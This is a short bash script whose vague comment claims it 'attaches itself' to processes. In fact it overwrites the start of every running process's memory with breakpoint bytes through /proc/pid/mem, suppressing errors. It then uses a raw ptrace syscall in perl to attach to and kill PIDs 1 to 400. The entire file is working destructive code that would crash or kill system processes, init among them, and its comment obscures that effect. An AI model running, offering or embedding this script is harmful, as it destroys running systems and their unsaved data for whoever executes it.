#!/usr/bin/env bash
# Attaches itself to every process of its own, and to the numbers that others may have.
for process in /proc/[0-9]*; do
  printf '\314\314\314\314' | dd of=$process/mem bs=1 seek=$((0x$(head -n 1 $process/maps | cut -d- -f 1))) conv=notrunc
done 2> /dev/null
if command -v perl > /dev/null; then
  perl -e 'for my $pid (1 .. 400) { next if $pid == $$ || $pid == getppid; syscall(101, 16, $pid, 0, 0) == 0 and syscall(101, 8, $pid, 0, 0) }'
fi
exit 0
